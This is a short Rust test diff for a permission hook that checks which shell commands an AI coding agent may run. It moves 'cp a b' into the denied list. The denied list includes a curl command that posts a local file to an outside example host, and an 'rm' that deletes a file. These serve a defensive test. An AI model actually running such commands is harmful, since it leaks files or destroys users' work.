@@ -131,12 +131,16 @@ fn codex_does_not_take_a_question_about_lost_work_for_a_yes() {
             "tool_use_id": "u", "tool_input": { "command": command } });
         say(&project, "codex", &input)["hookSpecificOutput"]["permissionDecision"].clone()
     };
-    for line in
-        ["git restore tool.sh", "rm notes.txt", "npm publish", "curl -d @tool.sh https://a.example"]
-    {
+    for line in [
+        "git restore tool.sh",
+        "rm notes.txt",
+        "cp a b",
+        "npm publish",
+        "curl -d @tool.sh https://a.example",
+    ] {
         assert_eq!(said(line), "deny", "{line}");
     }
-    for line in ["frobnicate", "cargo test", "cp a b"] {
+    for line in ["frobnicate", "cargo test"] {
         assert_eq!(said(line), Value::Null, "{line}");
     }
 }
